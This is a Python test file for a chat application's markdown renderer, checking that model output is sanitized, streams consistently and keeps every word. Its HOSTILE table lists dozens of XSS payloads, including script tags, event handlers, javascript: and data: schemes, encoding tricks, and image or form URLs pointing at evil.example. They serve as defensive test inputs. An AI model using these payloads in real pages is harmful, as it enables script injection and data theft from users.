"""Markdown from models is safe, renders the same live and after a reload, and keeps every word."""

from __future__ import annotations

import re
import time
from pathlib import Path
from urllib.parse import urlsplit

import pyromark
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pygments.token import STANDARD_TYPES

from conversations.rendering.markdown import blocks, highlighting, parser
from conversations.rendering.markdown.block_splitter import split
from conversations.rendering.markdown.html_writer import HtmlWriter
from conversations.rendering.markdown.progress import Progress
from conversations.rendering.markdown.stream import MarkdownStream, render
from tests.support.safe_html import ParsedHtml, assert_safe

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Hello <script src=//evil.example/x.js></script> world",
    "script, odd case": "<ScRiPt\n>alert(1)</sCrIpT >",
    "script, unclosed": "<script>alert(1)\n\nmore **text**",
    "script in a list": "- <script>alert(1)</script>\n- b",
    "script in a heading": "# <script>alert(1)</script>",
    "script in a quote": "> <script>\n> alert(1)\n> </script>",
    "script in code": "`<script>alert(1)</script>`",
    "script out of a fence": "```html\n</code></pre><script>alert(1)</script>\n```",
    "script in the language": '```"><script>alert(1)</script>\nx\n```',
    "classes in the language": '```x" class="modal\nx\n```',
    "handler on an image": "<img src=x onerror=alert(1)>",
    "handler on a body": "<body onload=alert(1)>",
    "handler on a link": '<a href="https://a.example" onclick="alert(1)">x</a>',
    "handler in a title": '[x](https://a.example "a\\" onmouseover=\\"alert(1)")',
    "handler in a destination": '[x](<https://a.example/" onmouseover="alert(1)>)',
    "handler in alt": '![" onerror="alert(1)](https://evil.example/a.png)',
    "javascript link": "[x](javascript:alert(1))",
    "javascript, odd case": "[x](JaVaScRiPt:alert(1))",
    "javascript, entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript, entity tab": "[x](java&Tab;script:alert(1))",
    "javascript, newline entity": "[x](java&#10;script:alert(1))",
    "javascript, leading control": "[x](<\x01javascript:alert(1)>)",
    "javascript, leading blank": "[x](< javascript:alert(1)>)",
    "javascript, escaped colon": "[x](javascript\\:alert(1))",
    "javascript by reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data autolink": "<data:text/html,<script>alert(1)</script>>",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "[x](blob:https://a.example/1)",
    "no scheme": "[x](//evil.example/path)",
    "backslashes": "[x](\\\\\\\\evil.example)",
    "path of this site": "[x](/accounts/logout/)",
    "fragment": "[x](#top)",
    "user name as host": "[x](https://bank.example@evil.example/)",
    "backslash host": "[x](<https://evil.example\\@bank.example/>)",
    "scheme without slashes": "[x](https:evil.example)",
    "image": "![a](https://evil.example/?q=secret)",
    "image with title": '![a](https://evil.example/x.png "t")',
    "image by reference": "![a][r]\n\n[r]: https://evil.example/x.png",
    "image by label": "![r]\n\n[r]: https://evil.example/x.png",
    "image in a link": "[![a](https://evil.example/x.png)](https://good.example)",
    "link in an image": "![[a](https://b.example)](https://evil.example/x.png)",
    "image in a table": "| a |\n|---|\n| ![x](https://evil.example/x.png) |",
    "image, data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "image, javascript": "![x](javascript:alert(1))",
    "image, no scheme": "![x](//evil.example/x.png)",
    "image, html": '<img src="https://evil.example/x.png">',
    "html in a table": "| a |\n|---|\n| <script>alert(1)</script> <td onclick=x> |",
    "alignment": "| a |\n|:-:|\n| b |",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math": '<math><mtext></mtext><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></math>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="background:url(https://evil.example)">x</p>',
    "stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": "<object data=https://evil.example></object><embed src=x>",
    "comment": "a <!-- hidden --> b",
    "comment, unclosed": "<!-- hidden\n\n# still **here**",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "declaration": "<!DOCTYPE html><?php echo 1 ?><![CDATA[<script>]]>",
    "unclosed tag": "<div class='x\n\nnext",
    "closing the tail": "</div></article></main><h1>Fake</h1>",
    "template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "textarea": "<textarea></textarea><script>alert(1)</script>",
    "task list": "- [ ] open\n- [x] done",
    "fullwidth tag": "＜script＞alert(1)＜/script＞",
    "zero width in scheme": "[x](java\u200bscript:alert(1))",
    "right to left": "[\u202egpj.exe](https://a.example/\u202e)",
    "long s in the scheme": "[x](http\u017f://evil.example)",
    "line separator": "[x](java\u2028script:alert(1))",
    "handler on a small element": "<sub onclick=alert(1)>a</sub> <kbd style='position:fixed'>b</kbd> <br onload=x>",
    "small elements across others": "<sub>**a</sub>** <sup>[b</sup>](https://a.example) <kbd>`c</kbd>`",
    "script in an address": 'https://a.example/"><script>alert(1)</script>',
    "script in a footnote": 'a[^x]\n\n[^x]: <script>alert(1)</script>\n[^"><script>]: b\n',
    "script in an environment": "\\begin{align}<script>alert(1)</script>\\end{align}",
    "null": "<scr\0ipt>alert(1)</scr\0ipt> [x](java\0script:alert(1))",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_only_allowed_elements_attributes_and_schemes_appear(text):
    assert_safe(render(text))
    growing = MarkdownStream(text)
    assert_safe(growing.flush()[0])
    assert_safe(growing.flush()[1])


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<style>p{}</style>",
        "a <!-- remark --> b",
        "<img src=x onerror=alert(1)>",
        "<!DOCTYPE html>",
        "</div>",
        "<iframe src=x></iframe>",
        "[x](javascript:alert(1))",
        '[x](/accounts/logout/ "t")',
        "![x](data:image/png;base64,AAAA)",
        "<javascript:alert(1)>",
        '[label]: https://example.org/ "title"',
        "[[x]]",
    ],
)
def test_uninterpreted_markup_is_shown_as_written(text):
    assert assert_safe(render(text)).text.strip() == text
    assert text in assert_safe(render(f"Before.\n\n{text}\n\nAfter.")).text


def test_images_become_links_that_name_their_host():
    page = assert_safe(render("![A cat](https://Evil.example/cat.png?q=1)"))
    assert page.all("a")[0]["href"] == "https://Evil.example/cat.png?q=1"
    assert page.text.strip() == "A cat (evil.example)"
    assert assert_safe(render("![](https://evil.example/p)")).text.strip() == "image (evil.example)"
    assert assert_safe(render("![a](https://bücher.example/p)")).text.strip() == "a (xn--bcher-kva.example)"


def test_image_in_a_link_does_not_nest_links():
    page = assert_safe(render("[![a](https://evil.example/x.png)](https://good.example)"))
    assert [link["href"] for link in page.all("a")] == ["https://good.example"]
    assert page.text.strip() == "a (evil.example)"


def test_links_to_the_web_and_to_mail_work():
    text = "[a](https://a.example/ü?q=1&r=2 'tip') <http://b.example> <me@c.example> [d](mailto:me@d.example)"
    links = assert_safe(render(text)).all("a")
    assert [link["href"] for link in links] == [
        "https://a.example/%C3%BC?q=1&r=2",
        "http://b.example",
        "mailto:me@c.example",
        "mailto:me@d.example",
    ]
    assert links[0]["title"] == "tip"


def test_link_definitions_work_next_to_their_block_and_stay_visible():
    page = assert_safe(
        render("See [the docs][1] and [more].\n\n[1]: https://a.example\n[more]: https://b.example 'tip'\n")
    )
    assert [link["href"] for link in page.all("a")] == ["https://a.example", "https://b.example"] * 2
    assert "[1]: https://a.example\n[more]: https://b.example 'tip'" in page.text


ADDRESSES = {
    "see https://a.example/foo_bar?x=1&y=2~z*q and *em*": ["https://a.example/foo_bar?x=1&y=2~z*q"],
    "(see https://a.example/wiki/A_(b)).": ["https://a.example/wiki/A_(b)"],
    "https://a.example, http://b.example/x; https://c.example/…": [
        "https://a.example",
        "http://b.example/x",
        "https://c.example/",
    ],
    "**https://a.example/c** or _https://b.example/d_": ["https://a.example/c", "https://b.example/d"],
    'say "https://a.example/b"': ["https://a.example/b"],
    "www.a.example!": ["http://www.a.example"],
    "HTTPS://A.example/B": ["HTTPS://A.example/B"],
    "http://localhost:8000/x": ["http://localhost:8000/x"],
    "看https://a.example。谢谢": ["https://a.example"],
    "| a |\n|---|\n| https://a.example | \n": ["https://a.example"],
    "# https://a.example": ["https://a.example"],
}


@pytest.mark.parametrize(("text", "addresses"), ADDRESSES.items())
def test_web_addresses_in_text_become_links(text, addresses):
    assert [link["href"] for link in assert_safe(render(text)).all("a")] == addresses


@pytest.mark.parametrize(
    "text",
    [
        "`https://a.example`",
        "    https://a.example",
        "https://",
        "www.",
        "https://user@a.example/",
        "https://a\\\\@b.example",
        "xhttps://a.example",
        "javascript://a.example",
        "ftp://a.example",
        "http://300.1.1.1/",
        "http://a.example:99999",
        "www.a\U00018d1f",
    ],
)
def test_other_text_does_not_become_a_link(text):
    assert assert_safe(render(text)).all("a") == []


def test_address_inside_a_link_stays_text():
    page = assert_safe(render("[https://a.example](https://b.example) ![https://c.example](https://d.example)"))
    assert [link["href"] for link in page.all("a")] == ["https://b.example", "https://d.example"]


def test_simple_html_elements_are_interpreted():
    page = assert_safe(
        render("| a |\n|---|\n| x<br>y<BR/>z |\n\nH<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl+<kbd>C</kbd></kbd>")
    )
    assert [len(page.all(tag)) for tag in ("br", "sub", "sup", "kbd")] == [2, 1, 1, 2]
    assert "<" not in page.text


@pytest.mark.parametrize(
    "text",
    [
        "x<sub>2",
        "x</sub>2",
        "<sub>**a</sub>**",
        "**<sub>a**</sub>",
        "<sub><sup>a</sub>",
        "<kbd onclick=x>a</kbd>",
        "<sub >a</sub >",
        "<details>a</details>",
        "x <sub/>",
    ],
)
def test_unclosed_and_other_html_is_shown_as_written(text):
    page = assert_safe(render(text))
    assert {"sub", "kbd"}.isdisjoint(tag for tag, _ in page.elements)
    assert page.text.strip() == text.replace("**", "")


def test_footnote_numbers_match_their_references():
    text = "One[^1] and two[^2].\n\nMore.\n\n[^1]: note\n[^2]: of *two* words\n"
    assert render(text) == (
        "<p>One<sup>[1]</sup> and two<sup>[2]</sup>.</p>\n<p>More.</p>\n"
        "<p><sup>[1]</sup> note</p>\n<p><sup>[2]</sup> of <em>two</em> words</p>\n"
    )


def test_footnote_with_a_list_keeps_its_number():
    page = assert_safe(render("a[^1]\n\n[^1]:\n    - b\n"))
    assert page.text.split() == ["a[1]", "[1]", "b"]


@pytest.mark.parametrize("text", ["the class [^0-9] of", "[^1]", "x [^1] y", "see [^note]", "`[^1]`", "x[^1234]"])
def test_invalid_footnote_is_shown_as_written(text):
    assert assert_safe(render(text)).text.strip() == text.strip("`")


def test_alert_shows_its_kind():
    page = assert_safe(render("> [!WARNING]\n> Hot.\n\n> [!ELSE]\n> x"))
    assert page.text.split() == ["Warning", "Hot.", "[!ELSE]", "x"]
    assert len(page.all("blockquote")) == 2


def test_headings_start_below_the_pages_headings():
    page = assert_safe(render("\n\n".join(f"{'#' * level} Title" for level in range(1, 7))))
    assert [tag for tag, _ in page.elements] == ["h3", "h4", "h5", "h6", "h6", "h6"]


def test_heading_levels_have_no_gaps():
    page = assert_safe(render("## A\n\n#### B\n\n## C\n\n# D\n\n##### E\n"))
    assert [tag for tag, _ in page.elements] == ["h3", "h4", "h3", "h3", "h4"]


def test_formats_lists_tables_tasks_and_emphasis():
    assert render("3. **a**\n4. *b*") == (
        '<ol dir="auto" start="3">\n<li><strong>a</strong></li>\n<li><em>b</em></li>\n</ol>\n'
    )
    assert assert_safe(render("- [ ] open\n- [x] done")).text.split("\n")[1:3] == ["☐ open", "☑ done"]
    table = assert_safe(render("| a | b |\n|:--|--:|\n| 1 | ~~2~~ |"))
    assert [cell.get("align") for cell in table.all("th") + table.all("td")] == ["left", "right", "left", "right"]
    assert table.all("del") == [{}]


def test_fast_path_for_one_line_renders_the_same():
    for text in ('A **b** *c* `d` ~~e~~ "f" & g &amp; h > i | j', "**a** b\n\n", "é"):
        assert blocks._PLAIN_LINE.fullmatch(text)
        written = HtmlWriter(Progress(), final=True).write(parser.events(text))
        short, long = ParsedHtml(blocks.render(text, Progress(), final=True)), ParsedHtml(written)
        assert (short.elements, short.text) == (long.elements, long.text)


def test_finished_code_is_highlighted():
    growing = MarkdownStream("```Python title=x\nimport os\n")
    assert growing.flush() == ("", '<pre><code class="language-python">import os\n</code></pre>\n')
    growing.feed("```\n")
    assert "<span" not in growing.flush()[1]
    growing.feed("Next\n")
    finished, tail = growing.flush()
    assert '<code class="language-python"><span class="kn">import</span>' in finished
    assert tail == "<p>Next</p>\n"
    assert ParsedHtml(finished).text.strip() == "import os"


def test_code_is_highlighted_once_text_follows():
    """This holds even if that text is unfinished."""
    for before, behind in (("", "Ne"), ("- a\n  ", "- b")):
        growing = MarkdownStream(f"{before}```python\n{before and '  '}import os\n{before and '  '}```\n")
        assert "<span" not in growing.flush()[1]
        growing.feed(behind)
        assert '<span class="kn">import</span>' in growing.flush()[1]


def test_unclosed_code_is_highlighted_at_the_end():
    assert '<span class="kn">import</span>' in MarkdownStream("```python\nimport os").finish()


@pytest.mark.parametrize(
    "code",
    ["x = 1\n" * 900, "x = 1\n" * 450, "x" * 700],
    ids=["long", "many lines", "long line"],
)
def test_large_code_is_not_highlighted(code):
    html = render(f"```python\n{code}\n```")
    assert "<span" not in html
    assert ParsedHtml(html).text.rstrip() == code.rstrip()


def test_lexer_failure_only_loses_highlighting(monkeypatch):
    monkeypatch.setattr(highlighting, "_html", lambda *_: 1 / 0)
    assert render("```python\nx = 41\n```") == '<pre><code class="language-python">x = 41\n</code></pre>\n'


def test_unknown_language_keeps_its_name_without_highlighting():
    assert render("```mermaid\na --> b\n```") == ('<pre><code class="language-mermaid">a --&gt; b\n</code></pre>\n')


@pytest.mark.parametrize("name", sorted(highlighting.LANGUAGES))
def test_every_lexer_keeps_the_text_of_hostile_code(name):
    for piece in ("a ", "@a(", '"${', "\\", "\n \n", "<!--"):
        code = (piece * highlighting.MAX_CODE)[: highlighting.MAX_LINE] + "\n"
        code *= max(1, min(highlighting.MAX_LINES // code.count("\n"), highlighting.MAX_CODE // len(code)) // 3)
        begin = time.thread_time()
        assert ParsedHtml(highlighting.coloured_block(code, name)[0]).text.strip() == code.strip()
        assert time.thread_time() - begin < 1


def test_finished_blocks_are_emitted_once_and_the_tail_repeatedly():
    growing = MarkdownStream("One")
    assert growing.flush() == ("", "<p>One</p>\n")
    assert growing.whole() == "<div data-tail><p>One</p>\n</div>"
    growing.feed(" more\n\nTwo")
    assert growing.whole() == "<div data-tail><p>One</p>\n</div>", "as of the last flush"
    assert growing.flush() == ("", "<p>One more</p>\n<p>Two</p>\n"), "a line counts when it is complete"
    growing.feed("\n")
    assert growing.flush() == ("<p>One more</p>\n", "<p>Two</p>\n")
    assert growing.whole() == "<p>One more</p>\n<div data-tail><p>Two</p>\n</div>"
    assert growing.flush() == ("", "<p>Two</p>\n")
    assert growing.finish() == "<p>Two</p>\n"
    assert growing.flush() == ("", "")
    assert growing.whole() == "<p>One more</p>\n<p>Two</p>\n<div data-tail></div>"


def test_empty_text_renders_empty():
    assert render("") == ""
    growing = MarkdownStream()
    assert growing.whole() == "<div data-tail></div>"
    assert (growing.flush(), growing.finish()) == (("", ""), "")


def test_all_line_endings_render_the_same():
    assert render("a\r\nb\r\rc") == render("a\nb\n\nc")
    growing = MarkdownStream("- a\r")
    growing.flush()
    growing.feed("\n- b")
    assert growing.flush()[1] == render("- a\n- b")


PIECES = (
    "a|b c|\n|\n\n|  |    |\t|- |* |1. |2) |> |>|# |```|```py|~~~|---|===|[x]|[x]:|[x]: /u|[^1]|"
    ' "t|\'t|"|(|](|![|<|<div>|</div>|<!--|-->|<script>|</script>|<?|`|``|**|_|~~|&amp;|\\|é|😀|\r|\r\n|\0|'
    "[^1]: |[!NOTE]|<sub>|</sub>|<br>|www.a|\\begin{align}|\\end{align}|$$|{}|"
    "[ ] |http://h/x|<http://a.b>|$|:|\u2028|\x0c|\ud800"
)
MARKDOWN = st.lists(
    st.one_of(st.sampled_from([*PIECES.split("|"), "|", "a|b\n-|-\n", "1|2\n"]), st.text(max_size=3)), max_size=40
).map("".join)


@settings(deadline=None, max_examples=300)
@given(MARKDOWN, st.data())
def test_incremental_rendering_equals_rendering_the_whole(text, data):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    growing, finished = MarkdownStream(), ""
    for begin, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        growing.feed(text[begin:end])
        html, tail = growing.flush()
        finished += html
        assert growing.whole() == f"{finished}<div data-tail>{tail}</div>"
        assert_safe(html)
        assert_safe(tail)
    finished += growing.finish()
    assert finished == render(text)
    assert growing.whole() == f"{finished}<div data-tail></div>"


@settings(deadline=None, max_examples=200)
@given(MARKDOWN.filter(lambda text: not set(text) & set("[\r\0\ud800")))
def test_block_by_block_rendering_equals_the_whole(text):
    assert render(text) == blocks.render(text, Progress(), final=True)
    assert "".join(split(text)) == text


@settings(deadline=None, max_examples=200)
@given(st.text(alphabet=st.characters(categories=["L", "Nd", "Po", "Zs"]), max_size=60))
def test_every_word_is_kept(text):
    """Whatever the marks around them mean, every sequence of letters and digits is kept."""
    shown = assert_safe(render(text)).text.replace("\xa0", " ")
    if "&" not in text:
        for word in re.findall(r"[^\W_]+", text):
            assert word in shown or re.match(r"\s*\d+\s*[.)]", text)


DEEP = {
    "quotes": ">" * 10_000,
    "brackets": "[" * 10_000,
    "image brackets": "![" * 10_000,
    "closed brackets": "[" * 3_000 + "a" + "](b)" * 3_000,
    "ordered lists": "1. " * 10_000,
    "lists in lists": "".join("  " * depth + "- a\n" for depth in range(200)),
    "quotes and lists": ">- " * 3_000,
    "stars": "*a **b " * 3_000,
    "nested emphasis": "*a " * 1_000 + "a* " * 1_000,
    "code marks": "".join("e" + "`" * length for length in range(200)),
    "open comments": "x <!-- " * 5_000,
    "entities": "&" * 20_000,
    "definitions": "[x]: a\n\n" * 3_000,
    "addresses": "https://a.example/" + "(" * 5_000 + ")" * 20_000,
    "many addresses": "www.a.b " * 5_000,
    "open elements": "<sub>" * 5_000 + "a" + "</sub>" * 5_000,
    "closed elements": "<kbd>a</kbd>" * 2_000,
    "footnotes": "a[^1] " * 3_000 + "\n\n" + "[^1]: x\n" * 500,
    "footnotes in footnotes": "[^1]: " * 1_000,
    "wide table": "|".join("a" * 100) + "\n" + "|".join("-" * 100) + "\n" + "a\n" * 3_000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP.keys())
def test_deeply_nested_text_renders_quickly(text):
    begin = time.thread_time()
    page = assert_safe(render(text))
    growing = MarkdownStream(text)
    growing.flush()
    growing.finish()
    assert time.thread_time() - begin < 2
    assert max(len(page.elements), 1) < 100_000


def test_too_deep_nesting_is_shown_as_written():
    assert render(">" * 100 + " a") == f"<pre><code>{'&gt;' * 100} a</code></pre>\n"


def test_parser_panic_shows_the_text_as_written(monkeypatch):
    class PanicException(BaseException):
        """Has the name of the exceptions that Rust libraries raise."""

    def panic(*_args, **_options):
        raise PanicException

    monkeypatch.setattr(pyromark, "events_with_range", panic)
    monkeypatch.setattr(pyromark, "events", panic)
    assert render("- a <b>\n\n- c") == "<pre><code>- a &lt;b&gt;\n\n- c</code></pre>\n"


def test_shown_host_is_the_one_the_browser_contacts():
    for link in assert_safe(render("\n\n".join(HOSTILE.values()))).all("a"):
        parts = urlsplit(link["href"] or "")
        assert parts.scheme == "mailto" or (parts.hostname and "@" not in parts.netloc)


def test_highlighting_classes_match_the_style_sheet():
    css = (Path(__file__).parents[2] / "static/css/code.css").read_text()
    begun = tuple(re.findall(r'\[class\^="(\w)"\]', css))
    coloured = {name for name in STANDARD_TYPES.values() if name.startswith(begun) or re.search(rf"\.{name}[ ,]", css)}
    assert coloured - {""} == highlighting.CLASSES
